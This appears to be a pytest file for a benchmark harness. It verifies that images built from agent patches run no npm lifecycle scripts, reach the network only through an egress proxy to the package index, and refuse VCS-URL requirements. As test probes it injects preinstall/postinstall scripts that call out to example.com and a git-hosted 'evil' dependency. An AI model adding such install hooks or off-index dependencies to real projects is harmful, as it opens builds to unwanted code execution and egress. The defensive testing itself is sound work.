"""Agent code at image build (issue 15): dependency builds never run the agent's code with privileges or network.

An environment image of a patched lock is built by an unprivileged user, with lifecycle scripts off (but for the
packages the base lock itself needs them for), on a network whose only way out is the harness's egress proxy to
the package index; a patched lock referencing anything but the index is refused; a patched lock that does not
build while the base lock does is the patch's failure.
"""

from __future__ import annotations

import json
import uuid
from pathlib import Path

import pytest
from attack_kit import BUGFIX, FRONTEND, Task, edit, said

from tasks_lib.core import docker_client
from tasks_lib.core.config import Settings
from tasks_lib.images import build as images
from tasks_lib.images import egress

pytestmark = [pytest.mark.docker, pytest.mark.slow]

IS_NUMBER = {
    "version": "7.0.0",
    "resolved": "https://registry.npmjs.org/is-number/-/is-number-7.0.0.tgz",
    "integrity": "sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng==",
    "license": "MIT",
}


def _lifecycle_patch(task: Task, marker: str) -> str:
    """package.json gains a dependency and lifecycle scripts that leave a marker and reach for the internet;
    package-lock.json the locked dependency (from the registry)."""
    manifest = task.base_file("frontend/package.json")
    lock_text = task.base_file("frontend/package-lock.json")
    pkg, lock = json.loads(manifest), json.loads(lock_text)
    script = (
        f"node -e \"require('fs').writeFileSync('/tmp/{marker}-' + process.env.npm_lifecycle_event, 'ran');"
        f"require('fs').writeFileSync('{marker}', 'ran');require('https').get('https://example.com/{marker}')\""
    )
    pkg["scripts"].update({"preinstall": script, "postinstall": script, "prepare": script})
    pkg["dependencies"]["is-number"] = "7.0.0"
    lock["packages"][""]["dependencies"]["is-number"] = "7.0.0"
    lock["packages"]["node_modules/is-number"] = IS_NUMBER
    return edit("frontend/package.json", manifest, json.dumps(pkg, indent=2) + "\n") + edit(
        "frontend/package-lock.json", lock_text, json.dumps(lock, indent=2) + "\n"
    )


def test_a_lifecycle_script_never_runs_at_build_and_the_build_reaches_only_the_index(curated_demo):
    """A frontend dependency change carrying preinstall/postinstall/prepare scripts: the image is built, the
    dependency is installed (as the build user, not root), no script ran (their markers are absent), and every
    request of the build went to an allowed host through the egress proxy (none to example.com)."""
    task = Task(FRONTEND)
    marker = f"PBENCH_MARKER_{uuid.uuid4().hex[:8]}"  # also makes the lock new: the image is built now
    chain = [(_lifecycle_patch(task, marker), True), (task.instance["test_patch"], False)]
    _, spec = images.run_env_specs(task.source, task.repo, task.instance["base_commit"], chain, "frontend")
    ref = images.ensure_env_image(spec)
    client = docker_client.get()
    try:
        assert ref.built and ref.log_path
        out = client.containers.run(
            ref.tag,
            [
                "sh",
                "-c",
                "ls -a /deps/frontend /tmp; stat -c '%u %n' /deps/frontend/node_modules/is-number/package.json",
            ],
            remove=True,
            network_disabled=True,
            entrypoint=[],
        ).decode()
        assert marker not in out, out
        assert "65532 /deps/frontend/node_modules/is-number/package.json" in out
        requests = images.egress_requests(ref.log_path)
        assert requests and all(verdict == "allowed" for verdict, _ in requests), requests
        assert {host for _, host in requests} <= set(egress.allowed_hosts(Settings.from_env()))
        log = Path(ref.log_path).read_text()
        assert "example.com" not in log and marker not in log.split("# egress:")[0].split("Step")[-1]
    finally:
        client.images.remove(ref.tag, force=True)


def test_the_build_network_has_no_other_way_out(curated_demo):
    """What the build's containers see: through the proxy the index answers, a host off the list gets 403; with
    the proxy bypassed nothing answers (the network is internal)."""
    settings = Settings.from_env()
    client = docker_client.get()
    base = images.bootstrap(settings)["base"]
    probe = (
        "import os, urllib.request\n"
        "def get(url, proxy):\n"
        "    handler = urllib.request.ProxyHandler({'https': proxy, 'http': proxy} if proxy else {})\n"
        "    try:\n"
        "        return str(urllib.request.build_opener(handler).open(url, timeout=8).status)\n"
        "    except Exception as exc:\n"
        "        return type(exc).__name__ + ':' + str(exc)\n"
        "p = os.environ['P']\n"
        "print('index', get('https://registry.npmjs.org/is-number', p))\n"
        "print('other', get('https://example.com/', p))\n"
        "print('direct', get('https://registry.npmjs.org/is-number', None))\n"
    )
    with egress.proxy(client, base.tag, settings) as net:
        out = client.containers.run(
            base.tag,
            ["python3", "-I", "-c", probe],
            environment={"P": net.proxy_url},
            network=net.network,
            remove=True,
        ).decode()
        seen = net.requests()
    assert "index 200" in out, out
    assert "other URLError" in out and "403" in out.split("other", 1)[1].split("\n", 1)[0], out
    assert "direct 200" not in out and "direct URLError" in out, out
    assert {(r["host"], r["allowed"]) for r in seen} == {("registry.npmjs.org", True), ("example.com", False)}


def test_a_patched_lock_may_reference_the_package_index_only(curated_demo, tmp_path, container_counter):
    """A requirement from a VCS URL (or an editable path, an index of its own) is refused as patch_invalid
    with the reason, before any build or container."""
    task = Task(BUGFIX)
    reqs = task.base_file("backend/requirements.txt")
    patch = edit("backend/requirements.txt", reqs, reqs + "evil @ git+https://github.com/evil/evil\n")
    with container_counter() as counter:
        v = task.score(patch, tmp_path / "vcs")
    assert v.status == "patch_invalid" and v.blame == "patch", said(v)
    assert "package index only" in v.note and "backend/requirements.txt" in v.note
    assert counter.created == []


def test_a_patched_lock_that_does_not_build_is_the_patchs_failure(curated_demo, tmp_path):
    """A requirement with no wheel for this Python (a source build the base lock does not need): the patched
    lock installs wheels only, its build fails twice while the base lock builds, and the verdict is
    image_build_failed charged to the patch (exit 1), not infrastructure."""
    task = Task(BUGFIX)
    reqs = task.base_file("backend/requirements.txt")
    v = task.score(edit("backend/requirements.txt", reqs, reqs + "PyYAML==3.13\n"), tmp_path / "sdist")
    assert v.status == "image_build_failed" and v.blame == "patch" and not v.infra_failure, said(v)
    assert "does not build" in v.note
